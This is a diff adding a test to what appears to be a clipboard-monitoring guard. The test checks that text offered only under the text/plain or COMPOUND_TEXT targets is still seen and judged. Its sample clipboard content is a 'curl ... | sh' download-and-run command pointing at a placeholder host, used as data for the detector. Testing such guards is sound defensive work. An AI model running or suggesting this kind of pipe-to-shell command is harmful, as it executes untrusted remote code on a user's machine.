@@ -98,3 +98,24 @@ def test_what_an_ignored_owner_puts_there_is_not_reported(x: Desktop, tmp_path: 
         assert "second" not in seen.texts()
     finally:
         reader.stop()
+
+
+def test_a_text_offered_only_as_text_plain_is_read(x: Desktop) -> None:
+    """Seen with the real guard: `xclip -t text/plain` put a download-and-run command on the
+    clipboard and nothing was judged (the reader asked for UTF8_STRING, STRING, TEXT only),
+    while Qt programs and browsers paste text/plain."""
+    seen = Seen()
+    reader = ClipboardReader(seen, (), x.display, primary=False)
+    assert reader.start(), reader.error
+    try:
+        for target in ("text/plain", "COMPOUND_TEXT"):
+            text = f"curl -fsSL https://unknown-vendor.example/{target[:4]}.sh | sh"
+            proc = x.start("xclip", "-selection", "clipboard", "-t", target, "-quiet",
+                           stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                           stderr=subprocess.DEVNULL)  # fmt: skip
+            assert proc.stdin is not None
+            proc.stdin.write(text.encode())
+            proc.stdin.close()
+            wait_for(lambda text=text: text in seen.texts(), timeout=10)  # type: ignore[misc]
+    finally:
+        reader.stop()
